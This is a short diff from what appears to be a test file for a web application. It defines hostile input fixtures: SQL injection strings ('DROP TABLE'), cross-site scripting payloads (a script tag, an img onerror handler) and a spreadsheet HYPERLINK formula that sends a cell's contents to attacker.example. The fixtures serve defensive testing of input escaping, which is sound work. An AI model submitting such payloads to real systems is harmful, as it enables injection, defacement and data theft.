@@ -509,7 +509,7 @@ const hostileName = `<script>alert("x")</script> O'Brien'); DROP TABLE users; --
 const formulaName = `=HYPERLINK("https://attacker.example/?"&A1,"Open")`
 
 // hostileText goes into every free-text field.
-const hostileText = `Robert'); DROP TABLE cohorts; -- <img src=x onerror=alert(1)> & "quotes" \ 1=1`
+const hostileText = `Robert'); DROP TABLE cohorts; -- <img src=x alt=x onerror=alert(1)> & "quotes" \ 1=1`
 
 // staff creates a user with roles through the operator command and signs in.
 func (w *world) staff(t *testing.T, name string, roles ...string) user {
